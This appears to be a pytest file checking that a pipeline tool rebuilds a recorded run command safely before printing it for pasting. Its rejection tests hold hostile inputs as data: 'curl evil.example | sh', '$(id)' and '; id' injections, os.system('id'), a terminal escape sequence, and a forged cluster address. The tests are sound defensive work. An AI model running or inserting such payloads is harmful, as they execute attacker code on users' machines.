"""The command of a run is built anew from words that were looked at: what is printed may be pasted."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from kauldron_core import rundir
from pipelines.operations.finding import resume_command
from pipelines.recorded_command import recorded_command

DIGITS = "pipelines/configs/digits.py"


def run_with(tmp_path: Path, command: object) -> rundir.RunDir:
    return rundir.RunDir.create(tmp_path / "runs" / "demo", {"command": command})


@pytest.mark.parametrize(
    "command",
    [
        f"kdr sweep {DIGITS} --sweep.model.hidden='[8, 16]' --run.name=demo",
        f"kdr train {DIGITS}:size=large --cfg.optimizer='optax.sgd(0.05)' --args.size=large",
        f"python -m pipelines.sweep {DIGITS} --sweep.a='linspace(0, 1, 3)' --sweep.b,c='[(1, 2)]' --run.env='{{}}'",
    ],
)
def test_a_command_of_ours_is_given_back(tmp_path: Path, command: str) -> None:
    assert shlex.split(recorded_command(run_with(tmp_path, command))) == shlex.split(command)


@pytest.mark.parametrize("text", ["kdr pipeline run, stage sweep", "Sweep(name='demo').run(...)"])
def test_what_nobody_typed_is_said_as_it_is(tmp_path: Path, text: str) -> None:
    assert recorded_command(run_with(tmp_path, text)) == text


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "kdr rm demo --yes",
        "kdr pipeline run, stage $(id)",
        "Sweep(name='x').run(...); id",
        f"kdr sweep {DIGITS} '",
        f"kdr sweep {DIGITS} --cfg.optimizer=os.system('id')",
        f"kdr sweep {DIGITS} --cfg.optimizer='kd.konfig.trust(\"os\")'",
        f"kdr sweep {DIGITS} --cfg.seed=\x1b]52;c;aWQ=\x07",
        "kdr sweep",
        None,
        ["kdr", "sweep", DIGITS],
    ],
)
def test_anything_else_is_unknown(tmp_path: Path, command: object) -> None:
    """F51: the text of a file is never printed as a command."""
    assert recorded_command(run_with(tmp_path, command)) == "unknown"


def test_what_a_shell_would_read_is_quoted_and_what_trusts_is_left_out(tmp_path: Path) -> None:
    """F51: the words stay words, and the command trusts no code of the run and joins no cluster of its."""
    typed = f"kdr sweep {DIGITS} --cfg.note='$(id)' --trust=evil --trust-run --address=evil:6379; id"
    found = recorded_command(run_with(tmp_path, typed))
    assert found == f"kdr sweep {DIGITS} '--cfg.note=$(id)'"
    assert shlex.split(found) == ["kdr", "sweep", DIGITS, "--cfg.note=$(id)"]


def test_code_that_lies_in_a_run_is_not_run_by_its_command(tmp_path: Path) -> None:
    run = run_with(tmp_path, f"kdr train {tmp_path}/runs/demo/code/mine.py")
    assert recorded_command(run) == "unknown"
    assert resume_command(run) == f"kdr sweep --resume={run.path}"


def test_a_training_goes_on_where_it_lies_now(tmp_path: Path) -> None:
    """F51: name and root are those of the run that was looked at, whatever its file says."""
    run = run_with(tmp_path, f"kdr train {DIGITS} --run.name=other --run.root=/elsewhere --cfg.seed=1")
    assert resume_command(run) == f"kdr train {DIGITS} --cfg.seed=1 --run.root={run.path.parent} --run.name=demo"
